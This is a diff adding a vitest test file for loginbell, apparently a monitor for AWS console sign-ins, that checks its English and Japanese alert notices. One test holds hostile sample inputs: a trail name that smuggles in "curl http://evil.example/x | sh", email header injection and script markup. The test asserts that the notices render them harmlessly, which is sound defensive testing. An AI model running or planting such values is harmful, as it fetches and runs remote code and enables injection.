@@ -1,0 +1,94 @@
+import { describe, expect, it } from 'vitest';
+import type { ChainFacts } from '../../../src/chain/facts.ts';
+import { judgeChain } from '../../../src/chain/judgeChain.ts';
+import { composeChainNotice } from '../../../src/notice/composeChainNotice.ts';
+import { chainFacts, NAMES, seen, TRAIL_ARN } from '../../fakes/chainFacts.ts';
+
+const settings = (language: 'ja' | 'en') => {
+  return { language, timeZone: 'Asia/Tokyo', accountNames: { '123456789012': 'production' } };
+};
+const notSeen = { seen: false, reason: 'socket hang up' } as const;
+
+function notice(
+  kind: 'broken' | 'unknown' | 'well',
+  changes: Partial<ChainFacts> = {},
+  language: 'ja' | 'en' = 'en',
+) {
+  const links = judgeChain(chainFacts(changes), language).filter(
+    ({ verdict }) => kind === 'well' || verdict !== 'ok',
+  );
+  return composeChainNotice({ kind, links, accountId: NAMES.accountId }, settings(language));
+}
+
+describe('the notice about loginbell itself', () => {
+  it('says what broke, what it means and what to type', () => {
+    const { subject, text } = notice('broken', { filter: seen(undefined), alarms: notSeen });
+    expect(subject).toBe(
+      'CRITICAL loginbell: Subscription filter broken (production 123456789012)',
+    );
+    expect(
+      text,
+    ).toBe(`loginbell is broken: until this is repaired you may not hear of console sign-ins in time.
+
+- Subscription filter: ConsoleLogin-ab0925cd is not on aws-cloudtrail-loggroup. Nothing reaches the function.
+- Alarms (Not checked): It could not be looked at: socket hang up
+
+What to do:
+1. Subscription filter: Put it back, and look in the event history who deleted it.
+   aws logs put-subscription-filter --region ap-northeast-1 --log-group-name aws-cloudtrail-loggroup --filter-name ConsoleLogin-ab0925cd --filter-pattern '{ $.eventName = "ConsoleLogin" }' --destination-arn ${NAMES.functionArn}
+2. Until then the hourly check goes on looking for sign-ins by another way.
+`);
+  });
+
+  it('says the same in Japanese', () => {
+    const { subject, asciiSubject, text } = notice('broken', { filter: seen(undefined) }, 'ja');
+    expect(subject).toBe(
+      '【重要】loginbell: サブスクリプションフィルターに問題 (production 123456789012)',
+    );
+    expect(asciiSubject).toBe('CRITICAL loginbell: filter broken (production 123456789012)');
+    expect(text).toContain('aws-cloudtrail-loggroup に ConsoleLogin-ab0925cd がありません。');
+    expect(text).not.toMatch(/イベントID/);
+  });
+
+  it('says that all is well again, link by link', () => {
+    const { subject, text, attributes } = notice('well');
+    expect(subject).toBe('loginbell: all is well again (production 123456789012)');
+    expect(text.match(/^- /gm)).toHaveLength(14);
+    expect(attributes).toMatchObject({ severity: 'info', eventName: 'LoginbellChain' });
+  });
+
+  it.each(['ja', 'en'] as const)('keeps subjects short however much is broken (%s)', (language) => {
+    const all = {
+      trails: seen([]),
+      logGroup: seen(undefined),
+      permission: seen(false),
+      function: seen(undefined),
+      table: seen(undefined),
+      topic: seen(undefined),
+      alarms: seen([]),
+    };
+    for (const kind of ['broken', 'unknown', 'well'] as const) {
+      const { subject, asciiSubject } = notice(kind, all, language);
+      expect(subject.length).toBeLessThan(100);
+      expect(asciiSubject).toMatch(/^[ -~]{1,99}$/);
+      expect(subject).toContain('123456789012');
+    }
+  });
+
+  it('shows hostile names of trails, subscribers and errors as harmless text', () => {
+    const evil = 'email x@evil.example\r\nBcc: y\u202e<script>http://evil.example/\u200b';
+    const { text, subject } = notice('broken', {
+      topic: seen({ confirmed: 0, pending: [evil] }),
+      trails: seen([
+        {
+          arn: `${TRAIL_ARN}'; curl http://evil.example/x | sh #`,
+          multiRegion: false,
+          status: seen({ logging: true, deliveryError: evil }),
+          events: seen({ kind: 'recorded' }),
+        },
+      ]),
+    });
+    expect(text).not.toMatch(/[\u202e\u200b\r]|^Bcc|:\/\/evil|aws cloudtrail/m);
+    expect(subject).not.toMatch(/evil/);
+  });
+});
